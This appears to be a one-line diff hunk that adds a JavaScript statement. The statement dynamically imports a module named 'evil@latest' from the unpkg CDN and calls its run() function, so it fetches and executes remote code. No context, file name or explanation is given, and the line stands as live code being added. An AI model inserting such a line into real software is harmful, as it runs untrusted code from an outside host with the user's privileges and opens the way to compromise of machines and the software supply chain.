@@ -1,0 +1,1 @@
+import('https://unpkg.com/evil@latest/index.mjs').then((m) => m.run());
